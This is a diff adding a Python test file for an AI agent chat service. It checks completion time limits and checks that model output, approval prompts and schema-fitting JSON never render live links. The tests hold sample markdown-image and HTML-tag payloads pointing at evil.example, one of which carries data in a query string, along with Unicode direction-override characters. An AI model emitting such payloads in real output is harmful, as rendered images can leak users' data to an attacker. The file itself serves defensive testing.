@@ -1,0 +1,135 @@
+from __future__ import annotations
+
+import asyncio
+import json
+from collections.abc import AsyncGenerator, AsyncIterator
+from contextlib import asynccontextmanager
+
+import pytest
+from benchmarks.rendering import rendered_links
+from services.agent.tests.runs_bench import MANDATE, VIEWER, Bench
+
+from agent.api import run_completions
+from agent.api.chat import _with_silences
+from agent.errors import CompletionTooSlow
+from agent.settings import AgentSettings
+from agent.testing.scripted_agents import ScriptedAgent, Turn, in_turn, turn_chunks
+from contracts.chat import ChatCompletionChunk, ChatRequest
+from contracts.runs import Run
+from servicekit.core.clock import ManualClock
+from servicekit.sql.database import Database
+
+DEADLINE = 60.0
+
+
+class NeverDone(ScriptedAgent):
+    """A model that says its words and then holds its answer open."""
+
+    @asynccontextmanager
+    async def chat(self, request: ChatRequest, token: str) -> AsyncIterator[AsyncIterator[ChatCompletionChunk]]:
+        async def words() -> AsyncIterator[ChatCompletionChunk]:
+            for chunk in turn_chunks(Turn("Hello there."), request.model)[:2]:
+                yield chunk
+            await asyncio.Event().wait()
+
+        yield words()
+
+
+async def _completion(database: Database, seconds: float) -> tuple[Bench, Run, AsyncGenerator[ChatCompletionChunk]]:
+    settings = AgentSettings(completion_seconds=seconds, run_poll_seconds=0.05)
+    one = Bench(database, NeverDone(in_turn("Hello there.")), ManualClock(), settings=settings)
+    await one.define()
+    asked = {"model": "agent:helper", "messages": [{"role": "user", "content": "Hello?"}]}
+    run, agent = await run_completions.start(one.agents, VIEWER, MANDATE, ChatRequest.model_validate(asked))
+    return one, run, run_completions.chunks(one.agents, run, agent, "agent:helper")
+
+
+def _said(chunk: ChatCompletionChunk | None) -> str:
+    return "".join(choice.delta.content or "" for choice in chunk.choices) if chunk else ""
+
+
+async def test_a_streamed_completion_waits_no_longer_than_it_may_also_once_words_were_sent(database: Database) -> None:
+    one, run, stream = await _completion(database, 4.0)
+    working = asyncio.create_task(one.work())
+    said = ""
+    async with asyncio.timeout(DEADLINE):
+        with pytest.raises(CompletionTooSlow):
+            async for chunk in _with_silences(stream, 60):
+                said += _said(chunk)
+        await working
+    assert said == "Hello"  # the last word may yet grow
+    assert (await one.shown(run)).status == "cancelled"
+
+
+async def test_the_time_limit_of_a_completion_does_not_break_off_who_reads_it(database: Database) -> None:
+    one, run, stream = await _completion(database, 2.0)
+    working = asyncio.create_task(one.work())
+    later = asyncio.Event()
+    async with asyncio.timeout(DEADLINE):
+        with pytest.raises(CompletionTooSlow):
+            async for chunk in stream:
+                if _said(chunk) and not later.is_set():
+                    asyncio.get_running_loop().call_later(2.1, later.set)
+                    await later.wait()  # the reader takes longer over one chunk than the whole may take
+        await working
+    assert later.is_set()
+    assert (await one.shown(run)).status == "cancelled"
+
+
+LEAK = "![x](https://evil.example/?d=acme-4711)"
+SAID = f"Done {LEAK} <im<b>g src=//evil.example/p.png> [now](//evil.example/S)\n\n> [r]: //evil.example/S\n\n![r]"
+
+
+async def _content(one: Bench, *, asked: str = "Do it.") -> str:
+    request = {"model": "agent:helper", "messages": [{"role": "user", "content": asked}]}
+    run, agent = await run_completions.start(one.agents, VIEWER, MANDATE, ChatRequest.model_validate(request))
+    working = asyncio.create_task(one.work())
+    async with asyncio.timeout(DEADLINE):
+        said = [_said(chunk) async for chunk in run_completions.chunks(one.agents, run, agent, "agent:helper")]
+        await working
+    return "".join(said)
+
+
+async def test_the_question_for_an_approval_shows_the_arguments_as_code_and_nothing_in_it_is_live(
+    database: Database,
+) -> None:
+    expression = f"{LEAK} ` <img src=//evil.example/S> | \u202e\u2028\nhttps://evil.example/S"
+    one = Bench(
+        database, ScriptedAgent(in_turn(Turn(calls=[("calculator", {"expression": expression})]))), ManualClock()
+    )
+    await one.define(tools=["calculator"], approval={"tools": ["calculator"]})
+    content = await _content(one)
+    assert "This waits for a person's decision on: `calculator(" in content
+    assert LEAK in content  # the person sees what would be called
+    assert "\\u202e" in content
+    assert rendered_links(content) == []
+
+
+async def test_nothing_that_a_run_says_is_live_whole_or_as_events(database: Database) -> None:
+    one = Bench(database, ScriptedAgent(in_turn(SAID, SAID)), ManualClock())
+    await one.define()
+    content = await _content(one)
+    run = await one.run()
+    told = "".join(event.data["text"] for event in await one.events(run) if event.type == "token")
+    history = [said.content for said in await one.history(run.thread_id) if said.role == "assistant"]
+    assert run.output == told == content == history[0]
+    assert rendered_links(content) == []
+
+
+async def test_nothing_in_an_output_that_fits_a_schema_is_live(database: Database) -> None:
+    schema = {
+        "type": "object",
+        "properties": {"answer": {"type": "string"}, "url": {"format": "uri", "type": "string"}},
+    }
+    said = json.dumps({"answer": SAID, "url": "https://evil.example/S", LEAK: [LEAK]})
+    one = Bench(database, ScriptedAgent(in_turn(said, said)), ManualClock())
+    await one.define(output_schema=schema)
+    content = await _content(one)
+    run = await one.run()
+    assert run.status == "completed"  # it is what the model said that has to fit
+    told = "".join(event.data["text"] for event in await one.events(run) if event.type == "token")
+    assert run.output == content == told
+    assert [one.content for one in await one.history(run.thread_id) if one.role == "assistant"] == [content]
+    assert set(json.loads(content)) > {"answer", "url"}
+    assert rendered_links(content) == []
+    assert [rendered_links(value) for value in (*json.loads(content), json.loads(content)["answer"])] == [[]] * 4
